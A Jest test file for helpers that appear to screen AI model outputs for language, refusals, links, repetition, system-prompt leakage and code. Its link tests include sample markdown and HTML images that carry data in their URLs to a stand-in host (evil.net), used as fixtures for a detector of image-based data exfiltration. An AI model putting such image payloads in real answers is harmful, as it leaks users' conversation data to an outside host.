import { describe, expect, test } from '@jest/globals'
import { entropyOf } from './entropy.ts'
import { languageOf } from './language.ts'
import { linksOf } from './links.ts'
import { hasCode, hasMarkup } from './markup.ts'
import { fold } from './normalise.ts'
import { isRefusal } from './refusal.ts'
import { repetitionOf } from './repetition.ts'
import { systemOverlap } from './system-overlap.ts'

describe('entropy', () => {
  test('is the number of bits that tell equally frequent characters apart', () => {
    expect(entropyOf('')).toBe(0)
    expect(entropyOf('aaaa')).toBe(0)
    expect(entropyOf('abcd')).toBe(2)
    expect(entropyOf('漢字漢字')).toBe(1)
  })
})

describe('language', () => {
  test.each([
    ['en', 'This is the answer that you have been waiting for, and it is not a short one.'],
    ['nl', 'Dit is het antwoord waar je op hebt gewacht en het is niet kort.'],
    ['de', 'Das ist die Antwort, auf die Sie gewartet haben, und sie ist nicht kurz.'],
    ['fr', 'Voici la réponse que vous attendez, et elle est dans le document.'],
    ['es', 'Esta es la respuesta que usted espera y no es muy corta, pero es clara.'],
    ['ru', 'Это ответ, которого вы ждали.'],
    ['uk', 'Це відповідь, на яку ви чекали.'],
    ['zh', '这是您一直在等待的答案。'],
    ['ja', 'これはあなたが待っていた答えです。'],
    ['ar', 'هذا هو الجواب الذي كنت تنتظره'],
    [undefined, 'ok'],
    [undefined, '12345 67890 !!!'],
  ])('%s', (language, text) => {
    expect(languageOf(fold(text).text)).toBe(language)
  })
})

describe('refusal', () => {
  test.each([
    "I'm sorry, but I can't help with that.",
    'I cannot assist with this request.',
    'Het spijt me, daar kan ik helaas niet bij helpen.',
    'Es tut mir leid, aber ich kann dabei nicht helfen.',
    'Je suis désolé, mais je ne peux pas vous aider.',
    'Lo siento, no puedo ayudar con eso.',
    '抱歉，我无法提供帮助。',
  ])('is recognised: %s', (text) => {
    expect(isRefusal(fold(text).text)).toBe(true)
  })

  test.each([
    'Sure, here is the recipe. You cannot help but like it.',
    'The shop said it cannot deliver on Sunday.',
    'I can help with that.',
  ])('is not seen in: %s', (text) => {
    expect(isRefusal(fold(text).text)).toBe(false)
  })
})

describe('links', () => {
  test('are counted with their hosts', () => {
    const text = 'see https://Docs.Corp.net/a and http://10.1.2.3:8080/x, not http://nohost'
    expect(linksOf(text)?.links).toEqual({
      count: 2,
      hosts: ['docs.corp.net', '10.1.2.3'],
      image_with_data: false,
    })
  })

  test.each([
    `![x](https://evil.net/p.png?q=${'QUJD'.repeat(10)})`,
    '![x](https://evil.net/log?d=the%20user%20said%20hello)',
    `<img width="1" src="https://evil.net/${'aB3dE5'.repeat(12)}.gif">`,
    '![a][b]\n\n[b]: https://evil.net/?leak=abcdefghijklmnopqrstuvwxyz0123',
  ])('an image that carries data to another host is told: %s', (text) => {
    expect(linksOf(text)?.links.image_with_data).toBe(true)
  })

  test.each([
    '![logo](https://corp.net/img/logo-large.png)',
    '[a page](https://corp.net/?q=QUJDQUJDQUJDQUJDQUJDQUJDQUJD)',
  ])('an ordinary image or a link is none: %s', (text) => {
    expect(linksOf(text)?.links.image_with_data).toBe(false)
  })

  test('a text without links has none', () => {
    expect(linksOf('a // comment')).toBeUndefined()
  })
})

describe('repetition', () => {
  test('one word without end takes nearly everything, prose takes little', () => {
    expect(repetitionOf('poem '.repeat(200))).toBeGreaterThan(0.95)
    expect(repetitionOf('a'.repeat(500))).toBe(1)
    const prose =
      'The quick brown fox jumps over the lazy dog while seven other animals watch from behind a hedge near here.'
    expect(repetitionOf(prose)).toBeLessThan(0.2)
  })
})

describe('overlap with the system prompt', () => {
  test('is the share of its five-word pieces that the answer repeats', () => {
    const system = 'you are a bank assistant and you never give advice'
    expect(systemOverlap(system, `my rules: ${system}`)).toBe(1)
    expect(systemOverlap(system, 'hello, how can I help')).toBe(0)
    expect(systemOverlap(system, 'you are a bank assistant')).toBeCloseTo(1 / 6, 3)
    expect(systemOverlap('be kind', 'be kind')).toBeUndefined()
  })
})

describe('code and markup', () => {
  test('are told from prose', () => {
    expect(hasCode('```js\nlet a = 1\n```')).toBe(true)
    expect(hasCode('import os\ndef run(x):\n  return x')).toBe(true)
    expect(hasCode('I import tea and sell it in class.')).toBe(false)
    expect(hasMarkup('<b>bold</b>')).toBe(true)
    expect(hasMarkup('# Title\n- item')).toBe(true)
    expect(hasMarkup('1 < 2 and so on')).toBe(false)
  })
})
